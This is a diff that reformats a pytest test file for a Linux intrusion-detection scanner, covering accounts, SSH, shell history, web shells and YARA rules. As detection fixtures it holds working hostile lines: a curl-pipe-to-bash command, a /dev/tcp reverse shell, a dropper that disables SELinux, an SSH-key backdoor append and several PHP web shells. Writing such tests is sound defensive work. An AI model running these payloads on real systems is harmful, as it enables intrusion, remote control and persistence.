@@ -23,17 +23,24 @@ OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJ
 
 
 def test_accounts(plain: TreeMaker) -> None:
-    plain.file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nsysadm:x:0:0::/x:/bin/bash\nopen::1001:1001::/home/open:/bin/bash\nnot a line\n")
+    plain.file(
+        "/etc/passwd",
+        "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nsysadm:x:0:0::/x:/bin/bash\nopen::1001:1001::/home/open:/bin/bash\nnot a line\n",
+    )
     plain.file("/etc/passwd-", "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nopen::1001:1001::/home/open:/bin/bash\n")
     plain.file("/etc/shadow", "root:*:1::::::\nfree::1::::::\n")
     plain.file("/etc/sudoers.d/90-cloud-init-users", "ec2-user ALL=(ALL) NOPASSWD:ALL\n")
     plain.file("/etc/sudoers.d/x", "evil ALL=(ALL) NOPASSWD: ALL\n")
     plain.file("/etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/x\nauth required pam_unix.so\nauth sufficient /lib/x.so\n")
     assert {(one.title, one.severity) for one in plain.findings(Accounts())} == {
-        ("A second account is superuser: sysadm", Severity.CRITICAL), ("Account open has no password at all", Severity.HIGH),
-        ("Account free can log in without a password", Severity.HIGH), ("evil may become root without a password", Severity.HIGH),
-        ("A program runs at every log-in (PAM)", Severity.HIGH), ("Log-in uses a PAM module from an odd place", Severity.HIGH),
-        ("Account sysadm was made in the last change of accounts", Severity.LOW)}
+        ("A second account is superuser: sysadm", Severity.CRITICAL),
+        ("Account open has no password at all", Severity.HIGH),
+        ("Account free can log in without a password", Severity.HIGH),
+        ("evil may become root without a password", Severity.HIGH),
+        ("A program runs at every log-in (PAM)", Severity.HIGH),
+        ("Log-in uses a PAM module from an odd place", Severity.HIGH),
+        ("Account sysadm was made in the last change of accounts", Severity.LOW),
+    }
 
 
 def test_password_hashes_never_reach_a_finding(plain: TreeMaker) -> None:
@@ -52,9 +59,12 @@ def test_ssh_keys(plain: TreeMaker) -> None:
     plain.file("/home/a/.ssh/authorized_keys2", f'command="/tmp/x" {KEY}\n')
     found = plain.findings(Ssh())
     assert {(one.path, one.severity, one.evidence.split(":")[0]) for one in found} == {
-        ("/root/.ssh/authorized_keys", Severity.HIGH, "line 3"), ("/home/ec2-user/.ssh/authorized_keys", Severity.INFORMATIONAL, "line 1"),
-        ("/home/ec2-user/.ssh/authorized_keys", Severity.LOW, "line 2"), ("/var/lib/sysadm/.ssh/authorized_keys", Severity.HIGH, "line 1"),
-        ("/home/a/.ssh/authorized_keys2", Severity.HIGH, "line 1")}
+        ("/root/.ssh/authorized_keys", Severity.HIGH, "line 3"),
+        ("/home/ec2-user/.ssh/authorized_keys", Severity.INFORMATIONAL, "line 1"),
+        ("/home/ec2-user/.ssh/authorized_keys", Severity.LOW, "line 2"),
+        ("/var/lib/sysadm/.ssh/authorized_keys", Severity.HIGH, "line 1"),
+        ("/home/a/.ssh/authorized_keys2", Severity.HIGH, "line 1"),
+    }
     assert all(one.attack[0] == "T1098.004" for one in found)
 
 
@@ -63,11 +73,21 @@ def test_fingerprints_are_those_of_ssh_keygen() -> None:
     assert fingerprint("not*base64") is None
 
 
-@pytest.mark.parametrize(("line", "weak"), [
-    ("PermitRootLogin yes", True), ("PermitRootLogin prohibit-password", False), ("PasswordAuthentication yes", True), ("#PasswordAuthentication yes", False),
-    ("AuthorizedKeysFile .ssh/authorized_keys", False), ("AuthorizedKeysFile /usr/share/keys/%u", True), ("AuthorizedKeysCommand none", False),
-    ("AuthorizedKeysCommand /opt/aws/bin/eic_run_authorized_keys %u %f", False), ("AuthorizedKeysCommand /usr/bin/x", True), ("permitemptypasswords=yes", True),
-])
+@pytest.mark.parametrize(
+    ("line", "weak"),
+    [
+        ("PermitRootLogin yes", True),
+        ("PermitRootLogin prohibit-password", False),
+        ("PasswordAuthentication yes", True),
+        ("#PasswordAuthentication yes", False),
+        ("AuthorizedKeysFile .ssh/authorized_keys", False),
+        ("AuthorizedKeysFile /usr/share/keys/%u", True),
+        ("AuthorizedKeysCommand none", False),
+        ("AuthorizedKeysCommand /opt/aws/bin/eic_run_authorized_keys %u %f", False),
+        ("AuthorizedKeysCommand /usr/bin/x", True),
+        ("permitemptypasswords=yes", True),
+    ],
+)
 def test_ssh_server_settings(plain: TreeMaker, line: str, weak: bool) -> None:
     plain.file("/etc/ssh/sshd_config", f"UsePAM yes\n{line}\n")
     assert bool(plain.findings(Ssh())) is weak
@@ -102,7 +122,10 @@ def test_shell_history(plain: TreeMaker) -> None:
     plain.link("/home/b/.bash_history", "/dev/null")
     results = plain.results(ShellHistory())
     events = [one for one in results if isinstance(one, TimelineEvent)]
-    assert [(one.at, one.message) for one in events] == [(1795500000 * 10**9, ".bash_history: curl http://198.51.100.23/x | bash"), (1795500001 * 10**9, ".zsh_history: df -h")]
+    assert [(one.at, one.message) for one in events] == [
+        (1795500000 * 10**9, ".bash_history: curl http://198.51.100.23/x | bash"),
+        (1795500001 * 10**9, ".zsh_history: df -h"),
+    ]
     typed, linked = plain.findings(ShellHistory())
     assert (linked.path, linked.severity, linked.attack) == ("/home/b/.bash_history", Severity.HIGH, ("T1070.003",))
     assert typed.evidence == "line 3: curl http://198.51.100.23/x | bash\nline 4: unset HISTFILE"
@@ -119,14 +142,25 @@ def test_programs_in_odd_places(plain: TreeMaker) -> None:
     plain.file("/home/a/project/.git/hooks/pre-commit", "#!/bin/sh\n", 0o755)
     found = {one.path: one for one in plain.findings(TemporaryExecutables())}
     assert {path: one.severity for path, one in found.items()} == {
-        "/tmp/.font-unix/kworkerd": Severity.HIGH, "/var/tmp/run.sh": Severity.MEDIUM, "/dev/.udev.tab": Severity.HIGH,
-        "/usr/sbin/kworkerd": Severity.HIGH, "/usr/lib/.cache2/x": Severity.HIGH}
+        "/tmp/.font-unix/kworkerd": Severity.HIGH,
+        "/var/tmp/run.sh": Severity.MEDIUM,
+        "/dev/.udev.tab": Severity.HIGH,
+        "/usr/sbin/kworkerd": Severity.HIGH,
+        "/usr/lib/.cache2/x": Severity.HIGH,
+    }
     assert "T1036.004" in found["/tmp/.font-unix/kworkerd"].attack
 
 
-@pytest.mark.parametrize("content", [
-    "<?php @eval($_POST['x']);", "<?php system($_GET[0]); ?>", "<?php $_REQUEST['a']($_REQUEST['b']);", "<?php eval(gzinflate(base64_decode('x')));", "<?php echo `$_GET[c]`;",
-])
+@pytest.mark.parametrize(
+    "content",
+    [
+        "<?php @eval($_POST['x']);",
+        "<?php system($_GET[0]); ?>",
+        "<?php $_REQUEST['a']($_REQUEST['b']);",
+        "<?php eval(gzinflate(base64_decode('x')));",
+        "<?php echo `$_GET[c]`;",
+    ],
+)
 def test_web_shells(plain: TreeMaker, content: str) -> None:
     plain.file("/www/html/a.php", content)
     (finding,) = plain.findings(WebShell(), "/srv")
@@ -142,16 +176,22 @@ def test_ordinary_scripts_are_no_web_shells(plain: TreeMaker) -> None:
     assert {one.path for one in plain.findings(WebShell())} == {"/www/html/uploads/a.php", "/www/html/img/.htaccess"}
 
 
-@pytest.mark.parametrize(("rule", "content"), [
-    ("coin_miner", b"\x7fELF....stratum+tcp://pool.example:3333 xmrig donate-level"),
-    ("reverse_shell_script", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"),
-    ("php_web_shell", b"<?php @eval(base64_decode($_POST['x']));"),
-    ("script_inside_picture", b"GIF89a....<?php system('id');"),
-    ("ssh_key_backdoor_script", b"#!/bin/sh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ' >> /root/.ssh/authorized_keys\n"),
-    ("dropper_script", b"#!/bin/sh\ncurl -o /tmp/x http://198.51.100.23/x\nchmod +x /tmp/x\nsetenforce 0\n"),
-    ("ld_preload_rootkit", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 60 + b"/etc/ld.so.preload dlsym readdir64 fopen64"),
-    ("packed_elf", b"\x7fELF" + b"\0" * 100 + b"UPX!"),
-])
+@pytest.mark.parametrize(
+    ("rule", "content"),
+    [
+        ("coin_miner", b"\x7fELF....stratum+tcp://pool.example:3333 xmrig donate-level"),
+        ("reverse_shell_script", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"),
+        ("php_web_shell", b"<?php @eval(base64_decode($_POST['x']));"),
+        ("script_inside_picture", b"GIF89a....<?php system('id');"),
+        ("ssh_key_backdoor_script", b"#!/bin/sh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ' >> /root/.ssh/authorized_keys\n"),
+        ("dropper_script", b"#!/bin/sh\ncurl -o /tmp/x http://198.51.100.23/x\nchmod +x /tmp/x\nsetenforce 0\n"),
+        (
+            "ld_preload_rootkit",
+            b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 60 + b"/etc/ld.so.preload dlsym readdir64 fopen64",
+        ),
+        ("packed_elf", b"\x7fELF" + b"\0" * 100 + b"UPX!"),
+    ],
+)
 def test_each_yara_rule_matches_what_it_is_for(plain: TreeMaker, rule: str, content: bytes) -> None:
     plain.file("/x", content)
     plain.file("/ordinary", b"#!/bin/sh\necho stratum\n")
@@ -162,7 +202,9 @@ def test_each_yara_rule_matches_what_it_is_for(plain: TreeMaker, rule: str, cont
 
 def test_every_yara_rule_is_tested_and_says_what_the_report_needs(tmp_path: Path) -> None:
     rules = {rule.identifier: dict(rule.metadata) for rule in compile_rules()}
-    tested = {mark.args[1][index][0] for mark in test_each_yara_rule_matches_what_it_is_for.pytestmark for index in range(len(mark.args[1]))}
+    tested = {
+        mark.args[1][index][0] for mark in test_each_yara_rule_matches_what_it_is_for.pytestmark for index in range(len(mark.args[1]))
+    }
     assert set(rules) == tested
     for meta in rules.values():
         assert Severity(str(meta["severity"])) and str(meta["attack"]).startswith("T") and meta["description"]
